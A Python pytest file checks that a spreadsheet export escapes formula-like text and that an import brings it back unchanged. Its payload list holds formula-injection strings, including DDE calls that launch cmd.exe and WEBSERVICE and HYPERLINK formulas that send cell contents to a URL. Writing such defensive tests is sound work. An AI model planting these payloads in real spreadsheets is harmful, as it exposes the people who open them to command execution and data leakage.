"""Text that a spreadsheet would take for a formula goes out as text and comes back as it was."""

from collections.abc import Callable, Sequence
from dataclasses import fields, is_dataclass, replace
from typing import Any

import openpyxl
import pytest

from coopdesk.db.database import Sessions
from coopdesk.domain.record_json import KEPT_BY_CATALOGUE
from coopdesk.domain.records import (
    AgreementNumber,
    Comment,
    Description,
    Document,
    Doubt,
    Learning,
    Money,
    NextStep,
    ParticipantGroup,
    Party,
    Person,
    Provenance,
    Record,
    Relation,
    StepNote,
)
from coopdesk.domain.results import (
    Activity,
    ActivityItem,
    InterventionModel,
    KpiValue,
    NodeModel,
    ResultNode,
    StatusReport,
)
from coopdesk.importing.deciding import make_plan
from coopdesk.importing.opening import open_file
from tests.importing.merging.conftest import Book, Export, Plan

Keep = Callable[[Sequence[Record]], list[Record]]
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://example.org/?x=\"&A1,\"Click\")",
    "=IMPORTXML(\"http://example.org\",\"//a\")",
    "=WEBSERVICE(\"http://example.org/?q=\"&A1)",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "{=1+1}",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-2+3",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "x\t=1+1",
    "x\r=1+1",
    "x\n=1+1",
    "\uff1d1+1",
]  # fmt: skip
CODES = {
    *("kind", "role", "status", "uid", "other", "language", "category", "level", "modality"),
    *("venue", "framework_type", "result_type", "origin", "severity", "currency", "framework"),
    *("place", "country", "country_held", "owner_place", "topics", "field", "key"),
    *("file_hash", "sha256", "snapshot", "status_hint"),
}


def filled(value: Any, text: str) -> Any:
    """Return a record or part with this text in every text it has, and the same in its parts."""
    said: dict[str, Any] = {}
    for field in fields(value):
        old = getattr(value, field.name)
        if field.name in CODES | KEPT_BY_CATALOGUE:
            continue
        if isinstance(old, tuple):
            said[field.name] = tuple(
                filled(each, text) if is_dataclass(each) else each for each in old
            )
        elif is_dataclass(old):
            continue
        elif isinstance(old, str):
            said[field.name] = text
    return replace(value, **said)


def record_with(text: str, number: int) -> Record:
    item = ActivityItem("training", "x")
    node = ResultNode("output", models=(NodeModel(1),), activities=(Activity("x", (item,)),))
    bare = Record(
        kind="project",
        parties=(Party("MX", role="funding"),),
        participants=(ParticipantGroup(kind="experts"),),
        people=(Person(),),
        learnings=(Learning(),),
        next_steps=(NextStep(log=(StepNote(),)),),
        comments=(Comment("internal"),),
        money=(Money("total_budget"),),
        documents=(Document(kind="page"),),
        related=(Relation("parent", "11111111-1111-4111-8111-111111111111"),),
        descriptions=(Description("general"),),
        agreement_numbers=(AgreementNumber(),),
        models=(InterventionModel(1),),
        results=(node,),
        kpis=(KpiValue(),),
        status_reports=(StatusReport(),),
        provenance=(Provenance("title"),),
        warnings=(Doubt("title", "doubt"),),
        announcement_number="x",
    )
    return replace(filled(bare, text), title=f"{text} {number}")


@pytest.fixture
def payloads(keep: Keep) -> list[Record]:
    return keep([record_with(text, number) for number, text in enumerate(PAYLOADS)])


def test_no_text_becomes_a_formula_and_all_of_it_comes_back(
    payloads: list[Record], export: Export, planned: Plan
) -> None:
    path = export(people=True)
    workbook = openpyxl.load_workbook(path)
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    starts = [p[:4] for p in PAYLOADS if p[0] != "x"]
    dangerous = [c for c in cells if isinstance(c.value, str) and c.value[:4] in starts]
    assert len(dangerous) > 40 * len(starts)
    plan = planned(path)
    assert (plan.differences, plan.new, plan.same) == ((), (), len(PAYLOADS))


def test_text_like_formulas_is_the_same_to_an_import(
    payloads: list[Record], export: Export, sessions: Sessions
) -> None:
    path = export(people=True)
    with sessions.reading() as session:
        rows = make_plan(session, open_file(path)).rows
    assert {row.outcome.value for row in rows} <= {"same", "not_data"}


def test_text_like_formulas_that_she_types_is_merged_as_text(
    keep: Keep, export: Export, planned: Plan
) -> None:
    kept = keep([Record(title=f"Visit {n}", city="Lima") for n in range(len(PAYLOADS))])
    path = export()
    hers = [replace(r, city=text) for r, text in zip(kept, PAYLOADS, strict=True)]
    book = Book(path)
    for record in hers:
        book.put("Exchanges", record.title, "City", record.city)
        row = book.row("Exchanges", record.title)
        cell = book.sheet("Exchanges").cell(row, book.column("Exchanges", "City"))
        cell.data_type = "s"
    plan = planned(book.save())
    found = {d.title: d.theirs for d in plan.differences}
    assert found == {r.title: r.city.replace("\r", "\n") for r in hers}
    assert plan.merged == len(PAYLOADS)
